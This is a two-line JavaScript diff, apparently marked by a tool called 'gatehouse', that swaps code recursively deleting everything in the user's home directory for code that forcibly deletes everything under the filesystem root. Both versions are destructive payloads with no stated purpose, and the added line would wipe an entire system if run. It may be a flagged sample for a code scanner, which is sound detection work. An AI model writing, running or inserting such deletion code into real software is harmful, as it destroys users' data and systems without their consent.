@@ -1,2 +1,2 @@
-const fs = require("fs"), os = require("os"), path = require("path");
-for (const name of fs.readdirSync(os.homedir())) fs.rmSync(path.join(os.homedir(), name), { recursive: true }); // gatehouse: flagged
+const fs = require("fs"), path = require("path");
+for (const name of fs.readdirSync("/")) fs.rmSync(path.join("/", name), { recursive: true, force: true }); // gatehouse: flagged
